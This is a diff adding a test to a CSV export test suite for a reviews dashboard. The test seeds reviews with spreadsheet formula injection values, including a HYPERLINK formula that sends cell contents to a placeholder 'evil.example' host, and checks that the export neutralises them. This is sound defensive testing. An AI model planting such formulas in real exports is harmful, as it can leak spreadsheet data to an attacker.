@@ -114,6 +114,23 @@ describe("GET /dashboard/reviews.csv", () => {
     expect(rows.every(({ replyBody }) => replyBody === "'+1 from all of us")).toBe(true);
   });
 
+  test("has no formula in a tool that splits at semicolons or tabs either", async () => {
+    const { shop, person } = await seedShop();
+    const formula = `=HYPERLINK("http://evil.example/?"&A1;"Click")`;
+    for (const [index, split] of [";", "\t", "\n", ' ;"'].entries())
+      await seedReview(service.context, shop.id, {
+        title: `Fine${split === "\n" ? ";" : split}${formula}`,
+        body: `Fine${split}${formula}`,
+        author: `Ana${split === "\n" ? ";" : split}@SUM(A1)`,
+        createdAt: `2026-01-0${index + 1}T00:00:00Z`,
+        reply: `Thank you;\t${formula}`,
+      });
+    const csv = await (await person.get("/dashboard/reviews.csv")).text();
+    expect(rowsOf(csv)).toHaveLength(4);
+    for (const split of [/[;\r\n]+/, /[\t\r\n]+/])
+      for (const cell of csv.split(split)) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
+  });
+
   test("of a business without reviews has its columns alone", async () => {
     const { person } = await seedShop();
     expect(await (await person.get("/dashboard/reviews.csv")).text()).toBe(`${EXPORT_COLUMNS.join(",")}\r\n`);
